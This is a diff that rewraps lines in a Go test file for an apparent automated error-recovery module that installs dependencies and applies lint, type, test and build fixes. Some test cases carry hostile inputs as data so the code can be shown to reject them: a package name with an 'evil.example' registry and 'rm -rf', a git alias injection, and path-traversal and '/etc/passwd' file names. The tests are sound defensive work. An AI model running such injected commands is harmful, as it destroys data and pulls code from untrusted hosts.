@@ -77,7 +77,8 @@ func TestWaits(t *testing.T) {
 		wait           time.Duration
 		hint, failure  string
 	}{
-		{name: "no hint", strategy: "wait_for_rate_limit", failed: failed("slow down"), wait: time.Minute, hint: "default"},
+		{name: "no hint", strategy: "wait_for_rate_limit", failed: failed("slow down"), wait: time.Minute,
+			hint: "default"},
 		{name: "text", strategy: "wait_for_rate_limit", failed: failed("retry after 30"), wait: 30 * time.Second,
 			hint: "retry_after"},
 		{name: "text that is not searched", strategy: "wait_for_rate_limit", wait: time.Minute, hint: "default",
@@ -87,7 +88,8 @@ func TestWaits(t *testing.T) {
 				Evidence: &taxonomy.Evidence{RetryAfter: taxonomy.Some(5 * time.Second)}}},
 		{name: "reset time", strategy: "wait_for_rate_limit", wait: 7 * time.Second, hint: "reset_at",
 			failed: taxonomy.RecoveryRequest{Err: &taxonomy.Evidence{ResetAt: moment.Add(7 * time.Second)}}},
-		{name: "own default", strategy: "wait_for_rate_limit", failed: failed("x"), wait: 3 * time.Second, hint: "default",
+		{name: "own default", strategy: "wait_for_rate_limit", failed: failed("x"), wait: 3 * time.Second,
+			hint:    "default",
 			options: recovery.Options{RateLimitWait: 3 * time.Second}},
 		{name: "too long", strategy: "wait_for_rate_limit", failed: failed("retry after 3000"), hint: "retry_after",
 			failure: "longest wait"},
@@ -147,7 +149,8 @@ func TestFailures(t *testing.T) {
 		err                     error
 	}{
 		{"missing", "x", "No recovery strategy found for error: provider", own, errs.NewProviderRateLimit("p")},
-		{"missing in the standard", "x", `No recovery strategy found for error: strategy "x"`, standard, errors.New("e")},
+		{"missing in the standard", "x", `No recovery strategy found for error: strategy "x"`, standard,
+			errors.New("e")},
 		{"panics", "panics", "Recovery strategy failed: panic: token=[REDACTED]", own, errors.New("e")},
 		{"fails", "fails", "no luck", own, errors.New("e")},
 		{"works", "works", "", own, errors.New("e")},
@@ -171,16 +174,21 @@ func TestFailures(t *testing.T) {
 
 // D104.
 func TestSevenStrategies(t *testing.T) {
-	assert.Equal(t, map[string]string{"wait_for_rate_limit": "", "retry_with_backoff": "", "install_dependency": "install",
-		"apply_lint_fix": "lint", "apply_type_fix": "types", "fix_test": "tests", "fix_build": "build"}, func() map[string]string {
-		out := map[string]string{}
-		for _, name := range []string{recovery.NameWaitForRateLimit, recovery.NameRetryWithBackoff,
-			recovery.NameInstallDependency, recovery.NameApplyLintFix, recovery.NameApplyTypeFix, recovery.NameFixTest,
-			recovery.NameFixBuild} {
-			out[name] = recovery.ToolOf(name)
-		}
-		return out
-	}())
+	assert.Equal(
+		t,
+		map[string]string{"wait_for_rate_limit": "", "retry_with_backoff": "", "install_dependency": "install",
+			"apply_lint_fix": "lint", "apply_type_fix": "types", "fix_test": "tests", "fix_build": "build"},
+		func() map[string]string {
+			out := map[string]string{}
+			for _, name := range []string{recovery.NameWaitForRateLimit, recovery.NameRetryWithBackoff,
+				recovery.NameInstallDependency, recovery.NameApplyLintFix, recovery.NameApplyTypeFix,
+				recovery.NameFixTest,
+				recovery.NameFixBuild} {
+				out[name] = recovery.ToolOf(name)
+			}
+			return out
+		}(),
+	)
 }
 
 // tree returns a committed working tree with a file, and the tree for strategies.
@@ -188,7 +196,8 @@ func tree(t *testing.T) (dir string, _ *recovery.Tree) {
 	t.Helper()
 	dir = t.TempDir()
 	write(t, dir, "a.js", "bad")
-	for _, args := range [][]string{{"init", "-q"}, {"config", "user.email", "a@example.org"}, {"config", "user.name", "a"},
+	for _, args := range [][]string{{"init", "-q"}, {"config", "user.email", "a@example.org"}, {"config", "user.name",
+		"a"},
 		{"add", "."}, {"commit", "-qm", "begin"}} {
 		cmd := exec.Command("git", args...)
 		cmd.Dir = dir
@@ -241,25 +250,35 @@ func TestFixes(t *testing.T) {
 		failure  string
 		reverted bool
 	}{
-		{name: "helps", tool: recovery.Tool{Fix: line("echo good >a.js"), Check: line("grep -q good a.js")}, content: "good\n"},
-		{name: "exit code of a fixer", tool: recovery.Tool{Fix: line("echo good >a.js; exit 1"), Check: line("grep -q good a.js")},
+		{name: "helps", tool: recovery.Tool{Fix: line("echo good >a.js"), Check: line("grep -q good a.js")},
 			content: "good\n"},
-		{name: "does not help", tool: recovery.Tool{Fix: line("echo worse >a.js; echo new >b.js"), Check: line("echo still bad; exit 1")},
+		{name: "exit code of a fixer", tool: recovery.Tool{Fix: line("echo good >a.js; exit 1"),
+			Check: line("grep -q good a.js")},
+			content: "good\n"},
+		{name: "does not help", tool: recovery.Tool{Fix: line("echo worse >a.js; echo new >b.js"),
+			Check: line("echo still bad; exit 1")},
 			content: "bad", failure: "still bad", reverted: true},
-		{name: "types", strategy: "apply_type_fix", tool: recovery.Tool{Fix: line("echo good >a.js"), Check: line("true")},
+		{name: "types", strategy: "apply_type_fix", tool: recovery.Tool{Fix: line("echo good >a.js"),
+			Check: line("true")},
 			content: "good\n"},
-		{name: "tests", strategy: "fix_test", tool: recovery.Tool{Fix: line("true"), Check: line("false")}, content: "bad",
+		{name: "tests", strategy: "fix_test", tool: recovery.Tool{Fix: line("true"), Check: line("false")},
+			content: "bad",
 			failure: "Failed to apply test fixes"},
 		{name: "build", strategy: "fix_build", tool: recovery.Tool{Fix: line("echo good >a.js"), Check: line("true")},
 			content: "good\n"},
-		{name: "not allowed", guard: forbids{"a.js"}, tool: recovery.Tool{Fix: line("echo good >a.js; echo x >c.js"), Check: line("true")},
+		{name: "not allowed", guard: forbids{"a.js"}, tool: recovery.Tool{Fix: line("echo good >a.js; echo x >c.js"),
+			Check: line("true")},
 			content: "bad", failure: "not allowed", reverted: true},
-		{name: "git itself", tool: recovery.Tool{Fix: line("git config alias.x '!evil'; echo good >a.js"), Check: line("true")},
+		{name: "git itself", tool: recovery.Tool{Fix: line("git config alias.x '!evil'; echo good >a.js"),
+			Check: line("true")},
 			content: "bad", failure: "git", reverted: true},
 		{name: "file", failed: "b.js:1:1: x\na.js:3:5: bad", content: "bad x\n",
-			tool: recovery.Tool{Fix: []validate.Command{{Args: []string{"sh", "fix.sh", "{file}"}}}, Check: line("true")}},
-		{name: "no file", failed: "../a.js:3:5 and -rf:1:1 and /etc/passwd:1:1", content: "bad", failure: "Could not parse a file",
-			tool: recovery.Tool{Fix: []validate.Command{{Args: []string{"sh", "fix.sh", "{files}"}}}, Check: line("true")}},
+			tool: recovery.Tool{Fix: []validate.Command{{Args: []string{"sh", "fix.sh", "{file}"}}},
+				Check: line("true")}},
+		{name: "no file", failed: "../a.js:3:5 and -rf:1:1 and /etc/passwd:1:1", content: "bad",
+			failure: "Could not parse a file",
+			tool: recovery.Tool{Fix: []validate.Command{{Args: []string{"sh", "fix.sh", "{files}"}}},
+				Check: line("true")}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
@@ -284,8 +303,15 @@ func TestFixes(t *testing.T) {
 	}
 	_, err := run(t, recovery.Options{}, "apply_lint_fix", failed("x"))
 	assert.ErrorIs(t, err, recovery.ErrNoTool)
-	_, err = run(t, recovery.Options{Dir: t.TempDir(), Tools: map[string]recovery.Tool{"lint": {Fix: line("true"), Check: line("true")}}},
-		"apply_lint_fix", failed("x"))
+	_, err = run(
+		t,
+		recovery.Options{
+			Dir:   t.TempDir(),
+			Tools: map[string]recovery.Tool{"lint": {Fix: line("true"), Check: line("true")}},
+		},
+		"apply_lint_fix",
+		failed("x"),
+	)
 	assert.ErrorIs(t, err, recovery.ErrNoTree)
 }
 
@@ -295,7 +321,10 @@ func TestFixInARun(t *testing.T) {
 	tr.Wait = -1
 	space, err := tr.Open(t.Context(), "run-1")
 	require.NoError(t, err)
-	options := recovery.Options{Tree: tr, Tools: map[string]recovery.Tool{"lint": {Fix: line("echo worse >a.js"), Check: line("false")}}}
+	options := recovery.Options{
+		Tree:  tr,
+		Tools: map[string]recovery.Tool{"lint": {Fix: line("echo worse >a.js"), Check: line("false")}},
+	}
 	f := failed("x")
 	f.Run = "run-1"
 	got, err := run(t, options, "apply_lint_fix", f)
@@ -322,19 +351,29 @@ func TestInstall(t *testing.T) {
 		{"scoped", recovery.NPM, `Cannot find package "@acme/ui" imported from x`, "@acme/ui", nil},
 		{"bundler", recovery.NPM, "Module not found: Can't resolve 'left-pad' in '/srv'", "left-pad", nil},
 		{"python", recovery.Python, "ModuleNotFoundError: No module named 'requests'", "requests", nil},
-		{"go", recovery.Go, "x.go:3:2: no required module provides package github.com/acme/x; to add it:", "github.com/acme/x", nil},
+		{"go", recovery.Go, "x.go:3:2: no required module provides package github.com/acme/x; to add it:",
+			"github.com/acme/x", nil},
 		{"not allowed", recovery.NPM, "Cannot find module 'event-stream'", "", recovery.ErrNotAllowed},
-		{"hostile", recovery.NPM, "Cannot find module 'left-pad --registry=http://evil.example; rm -rf ..'", "", recovery.ErrNotAllowed},
+		{"hostile", recovery.NPM, "Cannot find module 'left-pad --registry=http://evil.example; rm -rf ..'", "",
+			recovery.ErrNotAllowed},
 		{"an option", recovery.NPM, "Cannot find module '--help'", "", recovery.ErrNotAllowed},
 		{"no name", recovery.NPM, "npm failed", "", recovery.ErrNoPackage},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			dir := t.TempDir()
 			write(t, dir, "install.sh", `printf %s "$1" >installed`)
-			got, err := run(t, recovery.Options{Dir: dir, Tools: map[string]recovery.Tool{"install": {Ecosystem: tt.ecosystem,
-				Allow: map[recovery.Ecosystem][]string{recovery.NPM: {"left-pad", "@acme/ui"}, recovery.Python: {"requests"},
-					recovery.Go: {"github.com/acme/x"}}[tt.ecosystem],
-				Fix: []validate.Command{{Args: []string{"sh", "install.sh", "{package}"}}}}}}, "install_dependency", failed(tt.text))
+			got, err := run(
+				t,
+				recovery.Options{Dir: dir, Tools: map[string]recovery.Tool{"install": {Ecosystem: tt.ecosystem,
+					Allow: map[recovery.Ecosystem][]string{recovery.NPM: {"left-pad", "@acme/ui"},
+						recovery.Python: {"requests"},
+						recovery.Go:     {"github.com/acme/x"}}[tt.ecosystem],
+					Fix: []validate.Command{
+						{Args: []string{"sh", "install.sh", "{package}"}},
+					}}}},
+				"install_dependency",
+				failed(tt.text),
+			)
 			if tt.err != nil {
 				assert.ErrorIs(t, err, tt.err)
 				assert.NoFileExists(t, filepath.Join(dir, "installed"))
@@ -342,12 +381,22 @@ func TestInstall(t *testing.T) {
 			}
 			require.NoError(t, err)
 			assert.Equal(t, tt.installed, read(t, dir, "installed"))
-			assert.Equal(t, []string{"install", "Installed dependency: " + tt.installed}, []string{got.Action, got.Message})
+			assert.Equal(
+				t,
+				[]string{"install", "Installed dependency: " + tt.installed},
+				[]string{got.Action, got.Message},
+			)
 		})
 	}
-	_, err := run(t, recovery.Options{Dir: t.TempDir(), Tools: map[string]recovery.Tool{"install": {Ecosystem: recovery.NPM,
-		Allow: []string{"x"}, Fix: []validate.Command{{Args: []string{"sh", "-c", "echo out; exit 3", "sh", "{package}"}}}}}},
-		"install_dependency", failed("Cannot find module 'x'"))
+	_, err := run(
+		t,
+		recovery.Options{Dir: t.TempDir(), Tools: map[string]recovery.Tool{"install": {Ecosystem: recovery.NPM,
+			Allow: []string{
+				"x",
+			}, Fix: []validate.Command{{Args: []string{"sh", "-c", "echo out; exit 3", "sh", "{package}"}}}}}},
+		"install_dependency",
+		failed("Cannot find module 'x'"),
+	)
 	assert.ErrorContains(t, err, "Failed to install dependency")
 	assert.ErrorContains(t, err, "out")
 }
@@ -355,21 +404,27 @@ func TestInstall(t *testing.T) {
 func TestInvalidOptions(t *testing.T) {
 	check := line("true")
 	for field, o := range map[string]recovery.Options{
-		"MaxWait":                 {MaxWait: -1},
-		"Tools.x":                 {Tools: map[string]recovery.Tool{"x": {Fix: check, Check: check}}},
-		"Tools.lint.Fix":          {Tools: map[string]recovery.Tool{"lint": {Check: check}}},
-		"Tools.lint.Check":        {Tools: map[string]recovery.Tool{"lint": {Fix: check}}},
-		"Tools.lint.Fix[0]":       {Tools: map[string]recovery.Tool{"lint": {Fix: line("fix {file}"), Check: check}}},
-		"Tools.install.Fix[0]":    {Tools: map[string]recovery.Tool{"install": {Ecosystem: "npm", Fix: []validate.Command{{Args: []string{"npm", "i", "x{package}"}}}}}},
+		"MaxWait":           {MaxWait: -1},
+		"Tools.x":           {Tools: map[string]recovery.Tool{"x": {Fix: check, Check: check}}},
+		"Tools.lint.Fix":    {Tools: map[string]recovery.Tool{"lint": {Check: check}}},
+		"Tools.lint.Check":  {Tools: map[string]recovery.Tool{"lint": {Fix: check}}},
+		"Tools.lint.Fix[0]": {Tools: map[string]recovery.Tool{"lint": {Fix: line("fix {file}"), Check: check}}},
+		"Tools.install.Fix[0]": {Tools: map[string]recovery.Tool{"install": {Ecosystem: "npm",
+			Fix: []validate.Command{{Args: []string{"npm", "i", "x{package}"}}}}}},
 		"Tools.install.Ecosystem": {Tools: map[string]recovery.Tool{"install": {Fix: []validate.Command{{Args: []string{"npm", "{package}"}}}}}},
-		"Tools.install.Allow[0]":  {Tools: map[string]recovery.Tool{"install": {Ecosystem: "npm", Allow: []string{"../x"}, Fix: []validate.Command{{Args: []string{"npm", "{package}"}}}}}},
+		"Tools.install.Allow[0]": {Tools: map[string]recovery.Tool{"install": {Ecosystem: "npm",
+			Allow: []string{"../x"}, Fix: []validate.Command{{Args: []string{"npm", "{package}"}}}}}},
 	} {
 		_, err := recovery.New(o)
 		var ev *taxonomy.Evidence
 		require.ErrorAs(t, err, &ev, field)
 		assert.Equal(t, field, ev.Attribute("field"))
 	}
-	script := recovery.Options{Tools: map[string]recovery.Tool{"install": {Ecosystem: "npm", Fix: []validate.Command{{Args: []string{"sh", "-c", "{package}"}}}}}}
+	script := recovery.Options{
+		Tools: map[string]recovery.Tool{
+			"install": {Ecosystem: "npm", Fix: []validate.Command{{Args: []string{"sh", "-c", "{package}"}}}},
+		},
+	}
 	_, err := recovery.New(script)
 	assert.Error(t, err, "a package is never a script")
 }
